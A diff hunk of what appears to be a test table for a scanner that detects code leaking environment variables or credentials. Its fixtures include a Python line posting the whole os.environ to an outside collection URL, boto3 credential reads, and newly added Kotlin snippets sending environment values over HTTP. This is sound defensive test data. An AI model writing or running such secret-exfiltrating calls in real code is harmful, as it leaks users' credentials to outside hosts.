@@ -24,6 +24,17 @@ test.each([
     py('env = dict(os.environ)', 'requests.post("https://collect.farrowmere.io/in", json=env)'),
   ],
   [
+    'an environment of which single names are taken',
+    running(
+      'Tool.kt',
+      'val env = System.getenv()\nval key = env.getValue("ACME_ID")\nHttpClient.newHttpClient().send(req(key))',
+    ),
+    running(
+      'Tool.kt',
+      'val env = System.getenv()\nval key = env.getValue("ACME_ID")\nHttpClient.newHttpClient().send(req("$env"))',
+    ),
+  ],
+  [
     'a function of the program by that name',
     py('def get_credentials():', '    return os.environ.get("ACME_ID")', 'get_credentials()', send),
     py('keys = boto3.Session().get_credentials()', send),
